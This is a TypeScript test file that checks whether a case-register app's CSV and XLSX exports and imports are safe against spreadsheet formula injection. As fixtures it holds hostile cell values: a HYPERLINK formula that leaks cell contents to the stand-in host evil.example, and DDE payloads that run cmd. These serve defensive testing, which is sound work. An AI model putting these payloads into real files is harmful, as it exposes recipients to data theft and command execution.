import fs from 'node:fs';
import path from 'node:path';
import { Workbook } from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Person, Unit } from '../../../shared/domain/org';
import type { CaseDetail } from '../../../shared/domain/cases';
import type { ImportPreview } from '../../../shared/domain/case-import';
import type { DeliveredFile } from '../../../shared/contract/files';
import { restoreCell, safeCell } from '../../../electron/backend/exports/formula-safety';
import { caller, tempDir, testBackend } from '../../helpers/tmp';

const NOW = new Date(2026, 10, 24, 10, 0);
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")';
const DDE = "+1+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const MINUS = '-2+3+cmd|\' /C calc\'!A0';

async function withHostileCase() {
  const dir = tempDir();
  const call = caller(testBackend({ now: () => NOW, dir }));
  const unit = await call<Unit>('units.create', { name: 'Äldreomsorgen', code: 'ÄO', kind: 'department' });
  const owner = await call<Person>('people.create', { name: 'Lars Öhman', email: 'lars@sjovik.example', roles: ['auditee_manager'], homeUnitId: unit.id });
  const c = await call<CaseDetail>('cases.create', {
    title: HYPERLINK, description: DDE, source: 'incident', severity: 'major', unitId: unit.id, ownerId: owner.id, detectedOn: '2026-09-01', dueDate: '2026-12-10',
  });
  await call('cases.addAction', { id: c.id, revision: c.revision, fields: { description: AT, ownerId: owner.id, dueDate: '2026-12-15' } });
  return { dir, call };
}

describe('exports that cannot attack the reader', () => {
  it('marks every text that a spreadsheet would take for a formula, and only those', () => {
    for (const v of ['=1+1', '+1', '-1', '@x', '\tx', '\rx']) expect(safeCell(v)).toBe(`'${v}`);
    for (const v of ['Kall mat', '2026-11-01', 'a=b', '', "'quoted"]) expect(safeCell(v)).toBe(v);
    for (const v of ['=1+1', '@x', '\tx', 'plain', "'quoted"]) expect(restoreCell(safeCell(v))).toBe(v);
  });

  it('CSV: formula-looking cells are written with a leading apostrophe, and import back as typed', async () => {
    const s = await withHostileCase();
    const out = await s.call<DeliveredFile>('cases.export', { format: 'csv', lang: 'en', query: {} });
    const parsed = Papa.parse<string[]>(Buffer.from(out.base64!, 'base64').toString('utf8').slice(1), { delimiter: ',', skipEmptyLines: true });
    const [header, row] = parsed.data;
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('Title')).toBe(`'${HYPERLINK}`);
    expect(cell('Description')).toBe(`'${DDE}`);
    // No cell of the file begins with a formula character.
    for (const r of parsed.data) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);

    const back = await s.call<ImportPreview>('cases.importPreview', { fileName: out.fileName, base64: out.base64! });
    expect(back.preview[0]?.values).toMatchObject({ title: HYPERLINK, description: DDE });
  });

  it('XLSX: formula-looking cells are text with a leading apostrophe, and no cell is a formula', async () => {
    const s = await withHostileCase();
    const out = await s.call<DeliveredFile>('cases.export', { format: 'xlsx', lang: 'en', query: {} });
    const wb = new Workbook();
    await wb.xlsx.load(Buffer.from(out.base64!, 'base64') as unknown as ArrayBuffer);
    const register = wb.worksheets[0]!;
    const header = (register.getRow(1).values as unknown[]).slice(1);
    expect(register.getRow(2).getCell(header.indexOf('Title') + 1).value).toBe(`'${HYPERLINK}`);
    expect(register.getRow(2).getCell(header.indexOf('Description') + 1).value).toBe(`'${DDE}`);
    const actions = wb.worksheets[1]!;
    expect((actions.getRow(2).values as unknown[]).slice(1, 4)).toEqual([expect.any(String), `'${HYPERLINK}`, `'${AT}`]);
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((c) => {
        expect(c.formula, `${ws.name}!${c.address}`).toBeFalsy();
        if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
      }));
    }
  });

  it('import: a formula cell is read as its text, never its cached result', async () => {
    const s = await withHostileCase();
    const wb = new Workbook();
    const ws = wb.addWorksheet('Register');
    ws.addRow(['Reference', 'Detected', 'Title', 'Source', 'Unit']);
    ws.addRow(['X-1', new Date(Date.UTC(2026, 8, 3)), { formula: 'HYPERLINK("http://evil.example","Kall mat")', result: 'Kall mat' }, 'Incident', 'Äldreomsorgen']);
    ws.addRow(['X-2', new Date(Date.UTC(2026, 8, 4)), MINUS, 'Incident', 'Äldreomsorgen']);
    const file = path.join(s.dir, 'formulas.xlsx');
    await wb.xlsx.writeFile(file);
    const mapping = { reference: 0, detectedOn: 1, title: 2, source: 3, unit: 4 };
    const preview = await s.call<ImportPreview>('cases.importPreview', { fileName: 'formulas.xlsx', base64: fs.readFileSync(file).toString('base64'), mapping });
    expect(preview.preview.map((r) => r.values.title)).toEqual(['=HYPERLINK("http://evil.example","Kall mat")', MINUS]);
  });
});
